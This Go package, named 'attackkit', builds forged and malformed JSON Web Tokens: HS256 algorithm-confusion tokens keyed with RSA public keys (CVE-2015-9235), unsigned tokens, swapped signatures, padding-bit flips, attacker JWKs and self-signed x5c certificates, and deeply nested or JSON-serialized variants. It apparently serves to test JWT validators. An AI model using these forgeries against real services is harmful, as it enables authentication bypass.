package attackkit

import (
	"crypto/hmac"
	"crypto/rand"
	"crypto/rsa"
	"crypto/sha256"
	"crypto/x509"
	"crypto/x509/pkix"
	"encoding/asn1"
	"encoding/base64"
	"encoding/pem"
	"errors"
	"math/big"
	"strings"
	"time"
)

func b64(b []byte) string { return base64.RawURLEncoding.EncodeToString(b) }

// Compact assembles header.payload.sig from the raw JSON of the header and
// the payload, each encoded as base64url, and a signature segment taken as
// it is ("" for an unsigned token).
func Compact(header, payload []byte, sig string) string {
	return b64(header) + "." + b64(payload) + "." + sig
}

// HS256 is the compact token of header and payload (raw JSON) with an
// HMAC-SHA256 signature keyed with secret: the algorithm confusion of
// CVE-2015-9235 when secret is an RSA public key (see PublicKeySecrets).
func HS256(header, payload, secret []byte) string {
	input := b64(header) + "." + b64(payload)
	mac := hmac.New(sha256.New, secret)
	mac.Write([]byte(input))
	return input + "." + b64(mac.Sum(nil))
}

// PublicKeySecrets are the encodings of pub a confused library might use
// as an HMAC secret, by name: "PKIX PEM" (a "PUBLIC KEY" block), "PKIX DER",
// "PKCS1 PEM" (an "RSA PUBLIC KEY" block), "PKCS1 DER" and "modulus" (the
// big-endian bytes of N).
func PublicKeySecrets(pub *rsa.PublicKey) (map[string][]byte, error) {
	pkixDER, err := x509.MarshalPKIXPublicKey(pub)
	if err != nil {
		return nil, err
	}
	pkcs1 := x509.MarshalPKCS1PublicKey(pub)
	return map[string][]byte{
		"PKIX PEM":  pem.EncodeToMemory(&pem.Block{Type: "PUBLIC KEY", Bytes: pkixDER}),
		"PKIX DER":  pkixDER,
		"PKCS1 PEM": pem.EncodeToMemory(&pem.Block{Type: "RSA PUBLIC KEY", Bytes: pkcs1}),
		"PKCS1 DER": pkcs1,
		"modulus":   pub.N.Bytes(),
	}, nil
}

// ReplaceSig swaps the last segment of raw, its signature, for sig (already
// base64url, or any other text).
func ReplaceSig(raw, sig string) string {
	return raw[:strings.LastIndexByte(raw, '.')+1] + sig
}

// FlipPaddingBit changes the unused low bit of a base64url segment's last
// character, which a lenient decoder ignores: the bytes decode the same, the
// encoding is not canonical. It returns seg unchanged when it has no unused
// bits to flip (its length is a multiple of 4, or it is not base64url).
func FlipPaddingBit(seg string) string {
	const alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"
	if len(seg)%4 == 0 {
		return seg
	}
	last := strings.IndexByte(alphabet, seg[len(seg)-1])
	if last < 0 {
		return seg
	}
	return seg[:len(seg)-1] + string(alphabet[last^1])
}

// ECDSADER re-encodes a JWS ECDSA signature (R || S, two halves of equal
// length) as the ASN.1 DER sequence crypto/ecdsa and X.509 use, which a JWS
// verifier must refuse.
func ECDSADER(sig []byte) ([]byte, error) {
	if len(sig) == 0 || len(sig)%2 != 0 {
		return nil, errors.New("attackkit: an ECDSA signature is R || S, two halves of equal length")
	}
	half := len(sig) / 2
	type rs struct{ R, S *big.Int }
	return asn1.Marshal(rs{new(big.Int).SetBytes(sig[:half]), new(big.Int).SetBytes(sig[half:])})
}

// RSAJWK is pub as a JSON Web Key with key ID kid, for a "jwk" header or an
// attacker's key set; add "alg" or "use" to the map as needed.
func RSAJWK(pub *rsa.PublicKey, kid string) map[string]any {
	return map[string]any{"kty": "RSA", "kid": kid, "n": b64(pub.N.Bytes()), "e": b64(big.NewInt(int64(pub.E)).Bytes())}
}

// SelfSignedX5C is an "x5c" header entry (standard base64 of DER) holding a
// certificate for key, signed by key itself, with the common name
// "attacker", valid from notBefore to notAfter.
func SelfSignedX5C(key *rsa.PrivateKey, notBefore, notAfter time.Time) (string, error) {
	tmpl := &x509.Certificate{
		SerialNumber: big.NewInt(1),
		Subject:      pkix.Name{CommonName: "attacker"},
		NotBefore:    notBefore,
		NotAfter:     notAfter,
	}
	der, err := x509.CreateCertificate(rand.Reader, tmpl, tmpl, &key.PublicKey, key)
	if err != nil {
		return "", err
	}
	return base64.StdEncoding.EncodeToString(der), nil
}

// Nested is depth JSON arrays inside each other, "[[...]]", for claims or
// headers deeper than a parser should follow.
func Nested(depth int) string {
	return strings.Repeat("[", depth) + strings.Repeat("]", depth)
}

// JWSJSONGeneral is the JWS JSON general serialization (RFC 7515, 7.2.1) of
// the base64url segments of a compact token, which a JWT validator must
// refuse: a JWT is compact only.
func JWSJSONGeneral(protected, payload, sig string) string {
	return `{"payload":"` + payload + `","signatures":[{"protected":"` + protected + `","signature":"` + sig + `"}]}`
}

// JWSJSONFlattened is the JWS JSON flattened serialization (RFC 7515,
// 7.2.2) of the base64url segments of a compact token.
func JWSJSONFlattened(protected, payload, sig string) string {
	return `{"payload":"` + payload + `","protected":"` + protected + `","signature":"` + sig + `"}`
}
